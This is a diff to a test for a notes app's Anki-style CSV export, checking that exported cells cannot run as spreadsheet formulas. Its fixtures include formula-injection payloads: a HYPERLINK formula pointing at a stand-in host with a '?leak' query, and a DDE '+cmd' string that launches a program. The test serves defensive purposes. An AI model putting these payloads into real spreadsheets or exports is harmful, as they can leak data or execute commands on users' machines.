@@ -44,12 +44,12 @@ def test_the_anki_export_writes_formula_cues_as_text(alice):
     call_command("import_notes", str(FIXTURES / "formulas"), stdout=io.StringIO())
     out = io.StringIO()
     call_command("export_notes", "--format", "csv", stdout=out)
-    lines = out.getvalue().split("\n", 3)
-    assert lines[:3] == ["#separator:Comma", "#html:true", "#tags column:3"]
-    rows = list(csv.reader(io.StringIO(lines[3])))
+    lines = out.getvalue().split("\n", 8)
+    assert lines[:2] == ["#separator:Comma", "#html:true"] and lines[7] == "#columns:GUID,Front,Back,Tags"
+    rows = list(csv.reader(io.StringIO(lines[8])))
     assert len(rows) == 5
     assert not any(spreadsheet_would_run(cell) for row in rows for cell in row)
-    shown = {html.unescape(row[0]): html.unescape(row[1].replace("<br>", "\n")) for row in rows}
+    shown = {html.unescape(row[1]): html.unescape(row[2].replace("<br>", "\n")) for row in rows}
     assert shown["=HYPERLINK(\"http://example.invalid/?leak\",\"Click for the answer\")"] == "Amazon S3"
     assert shown["+cmd|' /C calc'!A0"] == "AWS Glue"
     assert shown["Stream replay"] == "=1+1"
